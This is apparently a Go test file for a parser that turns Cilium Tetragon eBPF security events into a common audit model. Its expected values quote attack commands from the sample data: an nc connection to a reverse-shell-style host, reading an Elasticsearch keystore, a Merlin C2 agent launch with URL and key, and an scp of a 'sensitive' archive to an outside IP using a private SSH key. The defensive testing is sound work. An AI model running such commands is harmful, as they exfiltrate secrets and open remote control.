package tetragon

import (
	"bytes"
	"errors"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/kubetrail/kubetrail"
	"github.com/kubetrail/kubetrail/internal/sharedtest"
)

// outcome is what Next returned for one record.
type outcome struct {
	ev   kubetrail.Event
	skip string
	err  error
}

func readAll(t *testing.T, r io.Reader) []outcome {
	t.Helper()
	rd := NewReader(r)
	var out []outcome
	for {
		ev, skip, err := rd.Next()
		if errors.Is(err, io.EOF) {
			return out
		}
		var ke *kubetrail.Error
		if err != nil && !errors.As(err, &ke) {
			t.Fatalf("final error after %d records: %v", len(out), err)
		}
		out = append(out, outcome{ev, skip, err})
		if len(out) > 10000 {
			t.Fatal("no end")
		}
	}
}

func readFile(t *testing.T, path string) []outcome {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	return readAll(t, f)
}

const chapter = "cilium-tetragon/docs/security-observability-with-ebpf/03_chapter"

// Every Tetragon event file of the shared test data, and what it becomes: the
// category and type of its event, or "skip".
func TestSharedFiles(t *testing.T) {
	dir := sharedtest.Dir(t)
	want := map[string]string{
		"00_four_golden_signals/process_close.json":                                                             "skip",
		"00_four_golden_signals/process_connect.json":                                                           "network/connect",
		"00_four_golden_signals/process_exec.json":                                                              "process/execve",
		"00_four_golden_signals/process_exit.json":                                                              "process/exit",
		"00_four_golden_signals/process_kprobe.json":                                                            "file/open", // vi writing /etc/passwd
		"00_four_golden_signals/process_listen.json":                                                            "skip",
		"00_process_lifecycle/cat_process_exec.json":                                                            "process/execve",
		"00_process_lifecycle/cat_process_exit.json":                                                            "process/exit",
		"00_process_lifecycle/cat_process_kprobe.json":                                                          "skip", // a read
		"00_process_lifecycle/lifecycle_sh_process_exec.json":                                                   "process/execve",
		"00_process_lifecycle/lifecycle_sh_process_exit.json":                                                   "process/exit",
		"00_process_lifecycle/nc_process_close.json":                                                            "skip",
		"00_process_lifecycle/nc_process_connect.json":                                                          "network/connect",
		"00_process_lifecycle/nc_process_exec.json":                                                             "process/execve",
		"00_process_lifecycle/nc_process_exit.json":                                                             "process/exit",
		"03_security_observability_events/01_reaching_the_host_namespace/host-namespace-bash.json":              "process/execve",
		"03_security_observability_events/01_reaching_the_host_namespace/nginx-execution.json":                  "process/execve",
		"03_security_observability_events/01_reaching_the_host_namespace/nginx-listen.json":                     "skip",
		"03_security_observability_events/01_reaching_the_host_namespace/privileged-pod-bash.json":              "process/execve",
		"03_security_observability_events/01_reaching_the_host_namespace/privileged-pod-init.json":              "process/execve",
		"03_security_observability_events/01_reaching_the_host_namespace/privileged-pod-nsenter.json":           "process/execve",
		"03_security_observability_events/02_persistance/merlin-agent-container-start-containerd-shim.json":     "process/execve",
		"03_security_observability_events/02_persistance/merlin-agent-container-start-runc.json":                "process/execve",
		"03_security_observability_events/02_persistance/merlin-agent-go-connect.json":                          "network/connect",
		"03_security_observability_events/02_persistance/merlin-agent-go-start.json":                            "process/execve",
		"03_security_observability_events/02_persistance/merlin-agent-insert-pod-spec.json":                     "process/execve",
		"03_security_observability_events/02_persistance/merlin-agent-job-close.json":                           "skip",
		"03_security_observability_events/02_persistance/merlin-agent-job-connect.json":                         "network/connect",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-7z-exit.json":            "process/exit",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-7z.json":                 "process/execve",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-exit.json":           "process/exit",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-sh-exit.json":        "process/exit",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-sh.json":             "process/execve",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-ssh-exit.json":       "process/exit",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-ssh.json":            "process/execve",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp.json":                "process/execve",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-sh-exit.json":            "process/exit",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-sh.json":                 "process/execve",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-ssh-tunnel-close.json":   "skip",
		"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-ssh-tunnel-connect.json": "network/connect",
	}
	var files []string
	filepath.WalkDir(filepath.Join(dir, chapter), func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.HasSuffix(p, ".json") {
			files = append(files, p)
		}
		return nil
	})
	if len(files) != len(want) {
		t.Errorf("found %d sample files, the table knows %d", len(files), len(want))
	}
	for _, f := range files {
		rel, _ := filepath.Rel(filepath.Join(dir, chapter), f)
		rel = filepath.ToSlash(rel)
		out := readFile(t, f)
		if len(out) != 1 {
			t.Errorf("%s: %d records, want 1", rel, len(out))
			continue
		}
		o := out[0]
		got := "skip"
		switch {
		case o.err != nil:
			got = "error: " + o.err.Error()
		case o.skip == "":
			got = string(o.ev.Category) + "/" + o.ev.Type
			checkSendable(t, rel, &o.ev)
		}
		if got != want[rel] {
			t.Errorf("%s: %s (%s), want %s", rel, got, o.skip, want[rel])
		}
	}
}

// checkSendable checks what the agent protocol will require of an event.
func checkSendable(t *testing.T, name string, e *kubetrail.Event) {
	t.Helper()
	if e.Time.IsZero() || e.Type == "" || e.Process.Name == "" && e.Category == kubetrail.CategoryProcess {
		t.Errorf("%s: event lacks time, type or process name: %+v", name, e)
	}
	if e.Category == kubetrail.CategoryFile && e.File.Path == "" {
		t.Errorf("%s: file event without a path", name)
	}
}

func TestKnownRecords(t *testing.T) {
	dir := filepath.Join(sharedtest.Dir(t), chapter)
	one := func(rel string) kubetrail.Event {
		t.Helper()
		out := readFile(t, filepath.Join(dir, rel))
		if len(out) != 1 || out[0].err != nil || out[0].skip != "" {
			t.Fatalf("%s: %+v", rel, out)
		}
		return out[0].ev
	}
	type check struct {
		field string
		got   any
		want  any
	}
	cases := []struct {
		file   string
		checks func(e kubetrail.Event) []check
	}{
		{"00_process_lifecycle/nc_process_exec.json", func(e kubetrail.Event) []check {
			return []check{
				{"time", e.Time, time.Date(2022, 2, 1, 18, 1, 56, 411e6, time.UTC)},
				{"node", e.Node, "minikube"},
				{"exepath", e.Process.ExePath, "/usr/bin/nc"},
				{"name", e.Process.Name, "nc"},
				{"argv", e.Process.Argv, []string{"/usr/bin/nc", "raiz3gjkgtfhkkc.not-reverse-shell.com", "443"}},
				{"pid", e.Process.PID, int64(38314)},
				{"ppid", e.Process.PPID, int64(38312)},
				{"pname", e.Process.ParentName, "sh"},
				{"cwd", e.Process.Cwd, "/usr/share/elasticsearch/"},
				{"uid", e.Process.UID, int64(0)},
				{"loginuid", e.Process.LoginUID, int64(-1)},
				{"exec_id", e.Process.ExecID, "bWluaWt1YmU6MzM0OTc2NzgxOTUzNTozODMxNA=="},
				{"pexec_id", e.Process.ParentExecID, "bWluaWt1YmU6MzM0OTc2MDUxNjExMTozODMxMg=="},
				{"namespace", e.Namespace, "tenant-jobs"},
				{"pod", e.PodName, "elasticsearch-56f8fc6988-65smb"},
				{"container id", e.ContainerID, "e6af4dff4ea3b8d50313c59fbaa442e377da35671e79f43b8dc53c5efcc9b659"},
				{"container", e.ContainerName, "elasticsearch"},
				{"image", e.ImageRepository + " " + e.ImageTag, "quay.io/isovalent/jobs-app-elasticsearch latest"},
			}
		}},
		{"00_process_lifecycle/cat_process_exec.json", func(e kubetrail.Event) []check {
			return []check{
				{"argv", e.Process.Argv, []string{"/usr/bin/cat", "/usr/share/elasticsearch/config/elasticsearch.keystore"}},
				{"pod", e.PodName, "elasticsearch-56f8fc6988-65smb"},
				{"cmdline", e.Process.Cmdline(), "cat /usr/share/elasticsearch/config/elasticsearch.keystore"},
			}
		}},
		{"00_process_lifecycle/nc_process_connect.json", func(e kubetrail.Event) []check {
			return []check{
				{"network", e.Network, kubetrail.Network{L4Proto: "tcp", Direction: "outbound",
					ClientIP: "10.88.0.6", ClientPort: 48416, ServerIP: "64.225.45.153", ServerPort: 443}},
				{"name", e.Process.Name, "nc"},
				{"cwd (executions only)", e.Process.Cwd, ""},
			}
		}},
		{"00_four_golden_signals/process_kprobe.json", func(e kubetrail.Event) []check {
			return []check{
				{"path", e.File.Path, "/etc/passwd"}, // "etc/passwd" in the record
				{"name", e.Process.Name, "vi"},
				{"node", e.Node, "gke-kprobe-validation-default-pool-b5e9dab6-k0cj"},
			}
		}},
		{"03_security_observability_events/02_persistance/merlin-agent-go-start.json", func(e kubetrail.Event) []check {
			return []check{
				{"exepath", e.Process.ExePath, "/tmp/go-build3518135900/b001/exe/main"},
				{"argv", e.Process.Argv, []string{"/tmp/go-build3518135900/b001/exe/main", "-v", "-url", "https://main.linux-libs.org:443", "-proto", "h2", "-psk", "SecurePSK!23@456"}},
				{"pname", e.Process.ParentName, "go"},
			}
		}},
		{"03_security_observability_events/02_persistance/merlin-agent-job-connect.json", func(e kubetrail.Event) []check {
			return []check{
				{"server", e.Network.ServerPort, int64(443)},
				// No pod: the short ID Tetragon gives keeps it off the host.
				{"container id", e.ContainerID, "a51959123c3ba99a9f50a700"},
			}
		}},
		{"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-scp-sh.json", func(e kubetrail.Event) []check {
			return []check{
				// Tetragon quoted the argument that has spaces.
				{"argv", e.Process.Argv, []string{"/bin/sh", "-c", "scp -i ~/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~"}},
			}
		}},
		{"03_security_observability_events/01_reaching_the_host_namespace/nginx-execution.json", func(e kubetrail.Event) []check {
			return []check{
				{"argv", e.Process.Argv, []string{"/usr/sbin/nginx", "-g", "daemon off;"}},
				{"image", e.ImageRepository + " " + e.ImageTag, "nginx latest"},
			}
		}},
		{"03_security_observability_events/03_post_exploitation_techniques/merlin-agent-7z-exit.json", func(e kubetrail.Event) []check {
			return []check{
				{"type", e.Type, "exit"},
				{"exitcode", e.Process.ExitCode, int64(0)},
				{"time", e.Time, time.Date(2022, 1, 19, 12, 5, 31, 481e6, time.UTC)},
			}
		}},
	}
	for _, c := range cases {
		e := one(c.file)
		for _, ch := range c.checks(e) {
			if !reflect.DeepEqual(ch.got, ch.want) {
				t.Errorf("%s: %s = %#v, want %#v", c.file, ch.field, ch.got, ch.want)
			}
		}
	}
}

// testdata/events.json: GKE and containerd, JSON lines; the first has no time.
func TestEventLines(t *testing.T) {
	out := readFile(t, filepath.Join(sharedtest.Dir(t), "cilium-tetragon", "testdata", "events.json"))
	if len(out) != 3 {
		t.Fatalf("%d records, want 3", len(out))
	}
	for i, o := range out {
		if o.err != nil || o.skip != "" {
			t.Fatalf("record %d: %v %s", i, o.err, o.skip)
		}
	}
	e := out[0].ev
	want := kubetrail.Event{Time: time.Date(2022, 10, 18, 3, 16, 18, 273546829, time.UTC), // the process' start_time
		Category: kubetrail.CategoryProcess, Type: "execve", Node: "my-node", Namespace: "default", PodName: "tiefighter",
		ContainerID: "19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4", ContainerName: "spaceship",
		ImageRepository: "docker.io/tgraf/netperf", ImageTag: "latest",
		Process: kubetrail.Process{Name: "netserver", ExePath: "/usr/bin/netserver", Argv: []string{"/usr/bin/netserver", "-D"},
			PID: 68790, PPID: 68598, ParentName: "containerd-shim-runc-v2", Cwd: "/", LoginUID: -1,
			ExecID:       "Z2tlLW1pY2hpLTIyMDM4LWRlZmF1bHQtcG9vbC00MzczMGZhYi1sOHpyOjEzNjY1ODIyNjI0ODU2OjY4Nzkw",
			ParentExecID: "Z2tlLW1pY2hpLTIyMDM4LWRlZmF1bHQtcG9vbC00MzczMGZhYi1sOHpyOjEzNjYwNDgwNjUxNTk1OjY4NTk4"}}
	if !reflect.DeepEqual(e, want) {
		t.Errorf("got  %+v\nwant %+v", e, want)
	}
	if got := out[1].ev.Time; !got.Equal(time.Date(2022, 10, 18, 3, 16, 21, 373327754, time.UTC)) {
		t.Errorf("second record's time %v", got)
	}
}

// The events quoted in Tetragon's documentation, one per line inside a wrapper.
func TestDocsEvents(t *testing.T) {
	lines := sharedtest.Unwrapped(t, filepath.Join("cilium-tetragon", "tetragon_docs_events.jsonl"), "event")
	out := readAll(t, bytes.NewReader(lines))
	if len(out) != 18 {
		t.Fatalf("%d records, want 18", len(out))
	}
	var got []string
	for _, o := range out {
		switch {
		case o.err != nil:
			got = append(got, "error "+o.err.Error())
		case o.skip != "":
			got = append(got, "skip")
		default:
			got = append(got, o.ev.Type)
		}
	}
	want := []string{"skip", "skip", "execve", "execve", "open", "skip", "skip", "skip", "execve",
		"skip", "skip", "skip", "skip", "skip", "skip", "execve", "exit", "skip"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %v\nwant %v", got, want)
	}
	// security_file_permission with MAY_WRITE (2): vi writing /etc/passwd.
	w := out[4].ev
	if w.Category != kubetrail.CategoryFile || w.File.Path != "/etc/passwd" || w.Process.Name != "vi" || w.PodName != "file-access" {
		t.Errorf("file event: %+v", w)
	}
	if e := out[2].ev; e.WorkloadName != "xwing" || e.Process.Argv[1] != "https://ebpf.io/applications/#tetragon" {
		t.Errorf("workload %q argv %q", e.WorkloadName, e.Process.Argv)
	}
	if !strings.HasPrefix(out[0].skip, "process_throttle:") || !strings.Contains(out[14].skip, "__x64_sys_setns") {
		t.Errorf("skip reasons %q, %q", out[0].skip, out[14].skip)
	}
}

// Pretty-printed samples concatenated, with a broken record between them: the
// error names the line the broken record starts on, and reading goes on.
func TestConcatenatedWithBrokenRecord(t *testing.T) {
	dir := filepath.Join(sharedtest.Dir(t), chapter, "00_process_lifecycle")
	a, err := os.ReadFile(filepath.Join(dir, "nc_process_exec.json"))
	if err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(filepath.Join(dir, "cat_process_exec.json"))
	if err != nil {
		t.Fatal(err)
	}
	// a (111 lines, no final newline) and b glued as `cat` glues them, then a
	// record cut short, then b again on its own line.
	input := string(a) + string(b) + "\n" + `{"process_exec":{"process":{"binary":"/bin/x"` + "\n" + string(b) + "\n"
	out := readAll(t, strings.NewReader(input))
	if len(out) != 4 {
		t.Fatalf("%d records, want 4: %+v", len(out), out)
	}
	if out[0].ev.Process.Name != "nc" || out[1].ev.Process.Name != "cat" || out[3].ev.Process.Name != "cat" {
		t.Errorf("records: %s, %s, %s", out[0].ev.Process.Name, out[1].ev.Process.Name, out[3].ev.Process.Name)
	}
	brokenLine := strings.Count(string(a)+string(b), "\n") + 2
	if err := out[2].err; err == nil || err.(*kubetrail.Error).Where != "line "+strconv.Itoa(brokenLine) || !strings.Contains(err.Error(), "malformed JSON") {
		t.Errorf("broken record: %v, want an error at line %d", err, brokenLine)
	}
}

// rec builds a one-line record around an event body.
func rec(kind, body string) string {
	return `{"` + kind + `":` + body + `,"node_name":"n1","time":"2024-05-01T10:00:00Z"}`
}

const proc = `"process":{"exec_id":"e1","pid":10,"uid":1000,"auid":1000,"binary":"/usr/bin/tool","arguments":"a b","cwd":"/w",` +
	`"pod":{"namespace":"ns","name":"p","uid":"u-1","workload":"web","workload_kind":"Deployment","container":{"id":"cri-o://abc","name":"c","image":{"name":"reg:5000/img@sha256:feed"}}}},` +
	`"parent":{"exec_id":"e0","pid":9,"binary":"/bin/sh"}`

func TestSyntheticRecords(t *testing.T) {
	cases := []struct {
		name string
		in   string
		want string // "category/type", "skip: <part of the reason>" or "error: <part of the message>"
	}{
		{"exec with workload and cri-o id", rec("process_exec", `{`+proc+`}`), "process/execve"},
		{"tcp_connect", rec("process_kprobe", `{`+proc+`,"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET6","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"fd00::1","daddr":"fd00::2","sport":40000,"dport":8080,"cookie":"18446744073709551615"}}],"action":"KPROBE_ACTION_POST"}`),
			"network/connect"},
		{"tcp_connect without addresses", rec("process_kprobe", `{`+proc+`,"function_name":"tcp_connect","args":[{"sock_arg":{"protocol":"IPPROTO_TCP"}}]}`),
			`error: tcp_connect sock_arg: source address "" is not an IP address`},
		{"tcp_sendmsg", rec("process_kprobe", `{`+proc+`,"function_name":"tcp_sendmsg","args":[{"sock_arg":{}},{"int_arg":100}]}`), "skip: data sent on a connection"},
		{"tcp_close", rec("process_kprobe", `{`+proc+`,"function_name":"tcp_close","args":[{"sock_arg":{}}]}`), "skip: the end of a connection"},
		{"unlink", rec("process_kprobe", `{`+proc+`,"function_name":"security_path_unlink","args":[{"path_arg":{"path":"/var/tmp"}},{"path_arg":{"path":"/var/tmp/x"}}],"return":{"int_arg":-13}}`),
			"file/unlink"},
		{"rename", rec("process_lsm", `{`+proc+`,"function_name":"path_rename","args":[{"path_arg":{"path":"/a"}},{"path_arg":{"path":"/a/old"}},{"path_arg":{"path":"/b"}},{"path_arg":{"path":"/b/new"}}]}`),
			"file/rename"},
		{"truncate", rec("process_kprobe", `{`+proc+`,"function_name":"security_path_truncate","args":[{"path_arg":{"path":"/etc/hosts"}}],"return":{"int_arg":0}}`),
			"file/open"},
		{"permission to read", rec("process_kprobe", `{`+proc+`,"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/shadow"}},{"int_arg":4}]}`),
			"skip: a read"},
		{"append", rec("process_kprobe", `{`+proc+`,"function_name":"security_file_permission","args":[{"file_arg":{"path":"/var/log/x"}},{"int_arg":8}]}`),
			"file/open"},
		{"shared writable mapping", rec("process_kprobe", `{`+proc+`,"function_name":"security_mmap_file","args":[{"file_arg":{"path":"/etc/ld.so.cache"}},{"uint_arg":3},{"uint_arg":1}]}`),
			"file/open"},
		{"private mapping", rec("process_kprobe", `{`+proc+`,"function_name":"security_mmap_file","args":[{"file_arg":{"path":"/lib/libc.so"}},{"uint_arg":3},{"uint_arg":2}]}`),
			"skip: a mapping through which"},
		{"fd_install", rec("process_kprobe", `{`+proc+`,"function_name":"fd_install","args":[{"int_arg":3},{"file_arg":{"path":"/etc/passwd"}}]}`), "skip: an open whose access mode"},
		{"refused by the policy", rec("process_kprobe", `{`+proc+`,"function_name":"security_path_unlink","args":[{"path_arg":{"path":"/etc/x"}}],"action":"KPROBE_ACTION_OVERRIDE"}`),
			"skip: the policy refused the call"},
		{"other kprobe", rec("process_kprobe", `{`+proc+`,"function_name":"commit_creds","args":[]}`), "skip: process_kprobe commit_creds: not a connection"},
		{"exec from /proc", rec("process_exec", `{"process":{"binary":"/bin/init","flags":"procFS auid"}}`), "skip: process_exec from /proc"},
		{"exit with status and own time", `{"process_exit":{` + proc + `,"signal":"SIGKILL","status":137,"time":"2024-05-01T10:00:01Z"}}`,
			"process/exit"},
		{"future event type", rec("process_uprobe", `{"process":{}}`), "skip: process_uprobe: not a kind of activity"},
		{"missing time", `{"process_kprobe":{` + proc + `,"function_name":"tcp_connect","args":[{"sock_arg":{"saddr":"1.1.1.1","daddr":"2.2.2.2"}}]},"node_name":"n"}`,
			"error: time is missing"},
		{"bad time", `{"process_exec":{` + proc + `},"time":"yesterday"}`, `error: time "yesterday" is not an RFC 3339 time`},
		{"implausible time", `{"process_exec":{` + proc + `},"time":"1970-01-01T00:00:01Z"}`, "error: time 1970-01-01T00:00:01Z is implausible"},
		{"pid of the wrong type", rec("process_exec", `{"process":{"binary":"/bin/a","pid":"abc"}}`), "error: want an integer"},
		{"cwd of the wrong type", rec("process_exec", `{"process":{"binary":"/bin/a","cwd":7}}`), "error: process_exec.process.cwd: want a string, got a JSON number"},
		{"exec without binary", rec("process_exec", `{"process":{"pid":1}}`), "error: process_exec.process.binary is missing"},
		{"exec without process", rec("process_exec", `{}`), "error: process_exec has no process"},
		{"a list", `[1,2]`, "error: want a JSON object"},
		{"no event", `{"node_name":"n","time":"2024-05-01T10:00:00Z"}`, "error: no event in the record"},
		{"something else", `{"kind":"Event","apiVersion":"audit.k8s.io/v1"}`, "error: not a Tetragon event: it has the keys apiVersion, kind"},
		{"something else, one key", `{"hello":"world"}`, `error: not a Tetragon event: {"hello": ...}`},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := readAll(t, strings.NewReader(c.in+"\n"))
			if len(out) != 1 {
				t.Fatalf("%d records", len(out))
			}
			o := out[0]
			switch {
			case strings.HasPrefix(c.want, "error: "):
				if o.err == nil || !strings.Contains(o.err.Error(), strings.TrimPrefix(c.want, "error: ")) || !strings.HasPrefix(o.err.Error(), "line 1: ") {
					t.Errorf("got %v %q, want %s", o.err, o.skip, c.want)
				}
			case strings.HasPrefix(c.want, "skip: "):
				if o.err != nil || !strings.Contains(o.skip, strings.TrimPrefix(c.want, "skip: ")) {
					t.Errorf("got %v %q, want %s", o.err, o.skip, c.want)
				}
			default:
				if o.err != nil || o.skip != "" {
					t.Fatalf("got %v %q, want an event", o.err, o.skip)
				}
				if got := string(o.ev.Category) + "/" + o.ev.Type; got != c.want {
					t.Errorf("got %s, want %s", got, c.want)
				}
				checkSendable(t, c.name, &o.ev)
			}
		})
	}
}

// The mapped values of the synthetic events above, checked one by one.
func TestSyntheticValues(t *testing.T) {
	one := func(in string) kubetrail.Event {
		t.Helper()
		out := readAll(t, strings.NewReader(in))
		if len(out) != 1 || out[0].err != nil || out[0].skip != "" {
			t.Fatalf("%+v", out)
		}
		return out[0].ev
	}
	e := one(rec("process_exec", `{`+proc+`}`))
	want := kubetrail.Event{Time: time.Date(2024, 5, 1, 10, 0, 0, 0, time.UTC), Category: kubetrail.CategoryProcess, Type: "execve",
		Node: "n1", Namespace: "ns", WorkloadKind: "Deployment", WorkloadName: "web", PodName: "p", PodUID: "u-1",
		ContainerID: "abc", ContainerName: "c", ImageRepository: "reg:5000/img", ImageTag: "sha256:feed",
		Process: kubetrail.Process{Name: "tool", ExePath: "/usr/bin/tool", Argv: []string{"/usr/bin/tool", "a", "b"}, PID: 10, PPID: 9,
			ParentName: "sh", Cwd: "/w", UID: 1000, LoginUID: 1000, ExecID: "e1", ParentExecID: "e0"}}
	if !reflect.DeepEqual(e, want) {
		t.Errorf("exec\n got  %+v\n want %+v", e, want)
	}
	e = one(rec("process_kprobe", `{`+proc+`,"function_name":"tcp_connect","args":[{"sock_arg":{"protocol":"IPPROTO_TCP","saddr":"fd00::1","daddr":"fd00::2","sport":40000,"dport":8080}}],"return":{"int_arg":-111}}`))
	if n := e.Network; n != (kubetrail.Network{L4Proto: "tcp", Direction: "outbound", ClientIP: "fd00::1", ClientPort: 40000, ServerIP: "fd00::2", ServerPort: 8080}) || e.Result != "ECONNREFUSED" || e.Process.Cwd != "" {
		t.Errorf("connect: %+v %q", n, e.Result)
	}
	e = one(rec("process_kprobe", `{`+proc+`,"function_name":"security_path_unlink","args":[{"path_arg":{"path":"/var/tmp"}},{"path_arg":{"path":"/var/tmp/x"}}],"return":{"int_arg":-13}}`))
	if e.File.Path != "/var/tmp/x" || e.Result != "EACCES" {
		t.Errorf("unlink: %q %q", e.File.Path, e.Result)
	}
	e = one(rec("process_kprobe", `{`+proc+`,"function_name":"__x64_sys_write","args":[{"file_arg":{"path":"root/.ssh/authorized_keys"}},{"bytes_arg":"AA=="},{"size_arg":"1"}]}`))
	if e.Type != "open" || e.File.Path != "/root/.ssh/authorized_keys" {
		t.Errorf("write: %s %q", e.Type, e.File.Path)
	}
	e = one(`{"process_exit":{` + proc + `,"status":3,"time":"2024-05-01T10:00:01Z"}}`)
	if e.Process.ExitCode != 3 || !e.Time.Equal(time.Date(2024, 5, 1, 10, 0, 1, 0, time.UTC)) || e.Node != "" {
		t.Errorf("exit: %d %v %q", e.Process.ExitCode, e.Time, e.Node)
	}
}

// Malformed JSON is reported at the line its record starts on, and reading
// resumes with the next record.
func TestMalformedJSON(t *testing.T) {
	good := rec("process_exec", `{`+proc+`}`)
	cases := []struct {
		name string
		in   string
		want []string // per record: "event", or an error's text
	}{
		{"cut short, then more", good + "\n" + `{"process_exec":{"exec_id":"x"` + "\n" + good + "\n",
			[]string{"event", "line 2: malformed JSON: invalid character '{' after object key:value pair (at line 3)", "event"}},
		{"cut short where a value was due: the next line is taken in, up to the end", good + "\n" + `{"process_exec":{"process":` + "\n" + good + "\n",
			[]string{"event", "line 2: malformed JSON: the input ends inside this record", "event"}},
		{"text between records", good + "\nnot json at all\n\n" + good + "\n",
			[]string{"event", "line 2: malformed JSON: invalid character 'o' in literal null (expecting 'u')", "event"}},
		{"cut short at the end", good + "\n" + `{"process_exec":{"process":{"binary"`,
			[]string{"event", "line 2: malformed JSON: the input ends inside this record"}},
		{"pretty-printed, broken inside", "{\n  \"process_exec\": {\n    \"process\": {,\n  }\n}\n" + good + "\n",
			[]string{"line 1: malformed JSON: invalid character ',' looking for beginning of object key string (at line 3)", "event"}},
		{"a second good record on the broken one's line is lost", `{"x": }` + good + "\n" + good,
			[]string{"line 1: malformed JSON: invalid character '}' looking for beginning of value", "event"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			out := readAll(t, strings.NewReader(c.in))
			var got []string
			for _, o := range out {
				switch {
				case o.err != nil:
					got = append(got, o.err.Error())
				case o.skip != "":
					got = append(got, "skip "+o.skip)
				default:
					got = append(got, "event")
				}
			}
			if !reflect.DeepEqual(got, c.want) {
				t.Errorf("got  %q\nwant %q", got, c.want)
			}
		})
	}
}

// A failing underlying reader is a final error, not a bad record.
func TestReadError(t *testing.T) {
	boom := errors.New("disk on fire")
	rd := NewReader(io.MultiReader(strings.NewReader(rec("process_exec", `{`+proc+`}`)+"\n"), &failing{boom}))
	if _, _, err := rd.Next(); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		if _, _, err := rd.Next(); !errors.Is(err, boom) {
			t.Fatalf("got %v, want the read error", err)
		}
	}
}

type failing struct{ err error }

func (f *failing) Read([]byte) (int, error) { return 0, f.err }

func TestSplitArgs(t *testing.T) {
	cases := []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"-D", []string{"-D"}},
		{"--port 80 --host 0.0.0.0", []string{"--port", "80", "--host", "0.0.0.0"}},
		{`-c "7z a s3nsitiv3.7z ../ops_bank_accounts/"`, []string{"-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"}},
		{`-g "daemon off;"`, []string{"-g", "daemon off;"}},
		{` "a b" c`, []string{"a b", "c"}},          // a quoted first argument comes with a space
		{`"unclosed x`, []string{`"unclosed`, "x"}}, // no closing quote: taken literally
		{`say "hi"`, []string{"say", "hi"}},         // lossy: the quotes were the argument's own
		{"a  b", []string{"a", "", "b"}},            // an empty argument between two
		{`x "y z" "w"`, []string{"x", "y z", "w"}},
	}
	for _, c := range cases {
		if got := splitArgs(c.in); !reflect.DeepEqual(got, c.want) {
			t.Errorf("splitArgs(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestSplitImage(t *testing.T) {
	cases := []struct{ in, repo, tag string }{
		{"docker.io/tgraf/netperf:latest", "docker.io/tgraf/netperf", "latest"},
		{"nginx", "nginx", ""},
		{"localhost:5000/app", "localhost:5000/app", ""},
		{"quay.io/a/b@sha256:ff3a", "quay.io/a/b", "sha256:ff3a"},
		{"quay.io/a/b:v1@sha256:ff3a", "quay.io/a/b", "v1"},
	}
	for _, c := range cases {
		if r, tg := splitImage(c.in); r != c.repo || tg != c.tag {
			t.Errorf("splitImage(%q) = %q, %q", c.in, r, tg)
		}
	}
}
